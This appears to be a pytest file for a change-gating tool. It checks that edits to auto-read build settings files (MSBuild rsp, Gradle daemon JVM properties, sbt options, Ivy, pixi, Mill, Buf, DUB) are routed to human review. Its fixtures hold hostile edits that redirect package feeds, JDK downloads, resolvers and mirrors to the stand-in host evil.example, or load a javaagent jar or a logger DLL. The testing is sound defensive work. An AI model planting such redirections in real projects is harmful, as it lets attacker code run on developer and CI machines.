"""Red team 29: settings files a build or package tool reads by itself from the checkout, left `src`.

Each file below is read, without being named anywhere, by the tool that resolves or installs the project's
dependencies, and can send that tool to another registry, another download or another program:

- `Directory.Build.rsp`: MSBuild (`dotnet build`, `dotnet restore`) takes the switches of the nearest one above the
  project as its own command line: `-p:RestoreSources=…`, `-p:RestoreAdditionalProjectSources=…` name NuGet feeds,
  `-logger:` loads an assembly;
- `gradle/gradle-daemon-jvm.properties`: Gradle 8.8+ picks the daemon's JVM from it, and downloads that JDK from its
  `toolchainUrl.*` lines;
- `.sbtopts` and `.jvmopts`: the sbt launcher adds their lines to its own and the JVM's arguments
  (`-Dsbt.override.build.repos=true -Dsbt.repository.config=…` swaps the resolvers, `-javaagent:` runs a jar);
- `ivysettings.xml`: Apache Ivy's resolvers (ant's ivy tasks read it from the base folder; `ivy.xml` was `deps`);
- `.pixi/config.toml`: pixi's project configuration (default channels, mirrors, the PyPI index);
- `.mill-version` / `.config/mill-version`: the Mill version the launcher downloads (as `.bazelversion` for Bazel),
  and the launcher scripts themselves (`mill`, `millw`, `.bat` too: where it downloads Mill from, as `gradlew`);
- `buf.yaml`: a Buf module's BSR dependencies (its lock, `buf.lock`, was `deps`);
- `dub.json` / `dub.sdl` / `dub.selections.json`: a D package's manifest and lock.

Each was `src.default`: `gate --tree --enable deps` said allow (exit 0) to a new feed, a swapped JDK download, a new
resolver, a new Buf or DUB dependency, with and without a CI step running the tool; from the patch alone most were
reviewed only as needs-context and `Directory.Build.rsp` was allowed too. Now they are `deps`, and an edit the delta
does not read is `deps.unexplained` (reviewed) in both modes.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from changecase import Case, committed, gated, in_folders
from conftest import POLICY_DIR
from incli import run_cli
from test_deps_gate import unreviewed

SHA = "b4ffde65f46336ab88eb53be808477a3936bae11"
EVIL = "https://evil.example"

# (path, the tool CI runs, base text, hostile head texts)
FILES: list[tuple[str, str, str, list[str]]] = [
    ("Directory.Build.rsp", "dotnet build", "-nologo\n", [
        f"-nologo\n-p:RestoreAdditionalProjectSources={EVIL}/v3/index.json\n",
        f"-nologo\n-p:RestoreSources={EVIL}/v3/index.json\n",
        "-nologo\n-logger:tools/Evil.Logger.dll\n",
        f"-nologo /p:RestoreConfigFile=build/evil.nuget.config\n/property:RestoreSources={EVIL}/nuget\n"]),
    ("gradle/gradle-daemon-jvm.properties", "./gradlew build", "toolchainVersion=21\n", [
        f"toolchainUrl.LINUX.X86_64={EVIL.replace(':', chr(92) + ':')}/jdk.tgz\ntoolchainVersion=21\n",
        "toolchainVendor=EVIL\ntoolchainVersion=21\n",
        "toolchainVersion=8\n"]),
    (".sbtopts", "sbt test", "-J-Xmx2G\n", [
        "-J-Xmx2G\n-Dsbt.override.build.repos=true\n-Dsbt.repository.config=project/repositories\n",
        "-J-Xmx2G\n-J-javaagent:tools/agent.jar\n",
        "-J-Xmx2G\n-sbt-version 1.9.9\n"]),
    (".jvmopts", "sbt test", "-Xmx2G\n", [
        "-Xmx2G\n-javaagent:tools/agent.jar\n",
        "-Xmx2G\n-Dsbt.override.build.repos=true\n"]),
    ("ivysettings.xml", "ant resolve",
     '<ivysettings>\n  <settings defaultResolver="central"/>\n</ivysettings>\n', [
         f'<ivysettings>\n  <settings defaultResolver="evil"/>\n  <resolvers>\n    <ibiblio name="evil" '
         f'm2compatible="true" root="{EVIL}/m2"/>\n  </resolvers>\n</ivysettings>\n',
         '<ivysettings>\n  <settings defaultResolver="central"/>\n  <include url="https://evil.example/ivy.xml"/>\n'
         '</ivysettings>\n']),
    (".pixi/config.toml", "pixi install", "[pypi-config]\n", [
        f'[pypi-config]\nindex-url = "{EVIL}/simple"\n',
        f'default-channels = ["{EVIL}/conda"]\n[pypi-config]\n',
        f'[pypi-config]\n\n[mirrors]\n"https://conda.anaconda.org/conda-forge" = ["{EVIL}/conda-forge"]\n']),
    (".mill-version", "./mill __.compile", "0.11.6\n", ["0.11.7-evil\n", "0.10.0\n"]),
    (".config/mill-version", "./mill __.compile", "0.11.6\n", ["0.9.0\n"]),
    ("mill", "./mill __.compile", "#!/usr/bin/env sh\nDEFAULT_MILL_VERSION=0.11.6\n"
     "MILL_REPO_URL=https://github.com/com-lihaoyi/mill\n", [
         "#!/usr/bin/env sh\nDEFAULT_MILL_VERSION=0.11.6\nMILL_REPO_URL=https://evil.example/mill\n"]),
    ("millw.bat", "millw.bat __.compile", "@echo off\nset MILL_REPO_URL=https://github.com/com-lihaoyi/mill\n", [
        "@echo off\nset MILL_REPO_URL=https://evil.example/mill\n"]),
    ("buf.yaml", "buf generate", "version: v2\ndeps:\n  - buf.build/googleapis/googleapis\n", [
        "version: v2\ndeps:\n  - buf.build/googleapis/googleapis\n  - buf.build/evil/protos\n",
        "version: v2\ndeps:\n  - buf.evil.example/googleapis/googleapis\n"]),
    ("dub.json", "dub build", '{\n  "name": "a",\n  "dependencies": {\n    "vibe-d": "~>0.9.0"\n  }\n}\n', [
        '{\n  "name": "a",\n  "dependencies": {\n    "vibe-d": "~>0.9.0",\n    "evil": "~>1.0.0"\n  }\n}\n',
        '{\n  "name": "a",\n  "dependencies": {\n    "vibe-d": {"path": "../evil"}\n  }\n}\n']),
    ("dub.sdl", "dub build", 'name "a"\ndependency "vibe-d" version="~>0.9.0"\n', [
        'name "a"\ndependency "vibe-d" version="~>0.9.0"\ndependency "evil" version="~>1.0.0"\n']),
    ("dub.selections.json", "dub build",
     '{\n  "fileVersion": 1,\n  "versions": {\n    "vibe-d": "0.9.7"\n  }\n}\n', [
         '{\n  "fileVersion": 1,\n  "versions": {\n    "vibe-d": "0.9.7",\n    "evil": "1.0.0"\n  }\n}\n',
         '{\n  "fileVersion": 1,\n  "versions": {\n    "vibe-d": {"repository": "git+https://evil.example/v.git",'
         ' "version": "0.9.7"}\n  }\n}\n']),
]
WORKFLOW = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            f"      - uses: actions/checkout@{SHA}\n      - run: {{}}\n")

Variant = tuple[str, dict[str, str], dict[str, str]]  # name, files at BASE, files at HEAD


def variants() -> list[Variant]:
    """Each hostile edit at the root and in a subproject, alone and with a CI step running the tool."""
    found: list[Variant] = []
    for path, tool, old, news in FILES:
        for number, new in enumerate(news):
            for folder in ("", "services/api/"):
                for ci in (False, True):
                    base = {folder + path: old}
                    if ci:
                        base[".github/workflows/build.yml"] = WORKFLOW.format(tool)
                    name = f"{folder}{path} #{number}{' +ci' if ci else ''}"
                    found.append((name, base, {folder + path: new}))
    return found


def test_the_variants_are_what_they_say() -> None:
    assert len(variants()) == 4 * sum(len(news) for *_, news in FILES) == 116


def _run(args: list[str]) -> tuple[int, str]:
    done = run_cli(args, text=True)
    assert "Traceback" not in done.stderr, done.stderr
    return done.returncode, str(done.stdout)


@pytest.mark.parametrize("ci", [False, True], ids=["alone", "with-ci"])
def test_an_edit_of_a_tool_read_setting_needs_a_human(tmp_path: Path, ci: bool) -> None:
    # Every variant of one kind in a folder of its own of one repository (one packet and two gates, not 116): each
    # variant's file must be named by a review finding, with the tree and from the patch.
    base, head, paths = in_folders((v for v in variants() if v[0].endswith(" +ci") == ci), base_without=".github/")
    if ci:  # one workflow running every tool at the root
        tools = " && ".join(dict.fromkeys(tool for _, tool, _, _ in FILES))
        base[".github/workflows/build.yml"] = WORKFLOW.format(tools)
    repo, first, second, patch, packet = committed(tmp_path, base, head)
    for tree in (False, True):
        code, decision = gated(Case(repo, first, second, patch, packet), tree)
        assert (code, decision["outcome"]) == (3, "review"), (tree, decision["reasons"])
        assert not unreviewed(decision, paths), (tree, unreviewed(decision, paths))


def test_they_are_deps_by_name_with_and_without_the_tree(tmp_path: Path) -> None:
    paths = [path for path, *_ in FILES] + [f"services/api/{path}" for path, *_ in FILES]
    listing = tmp_path / "paths.txt"
    listing.write_text("\n".join(paths) + "\n")
    code, out = _run(["classify", "--paths", str(listing), "--policy", str(POLICY_DIR), "--format", "json"])
    assert code == 0
    buckets = {f["path"]: f["bucket"] for f in json.loads(out)["files"]}
    assert buckets == dict.fromkeys(paths, "deps")


def test_an_unrelated_edit_beside_them_still_queues(tmp_path: Path) -> None:
    base = {path: old for path, _, old, _ in FILES} | {"src/app.py": "print(1)\n"}
    repo, first, second, patch, packet = committed(tmp_path, base, {"src/app.py": "print(2)\n"})
    for tree in (False, True):
        code, decision = gated(Case(repo, first, second, patch, packet), tree)
        assert (code, decision["outcome"]) == (0, "allow"), (tree, decision["reasons"])
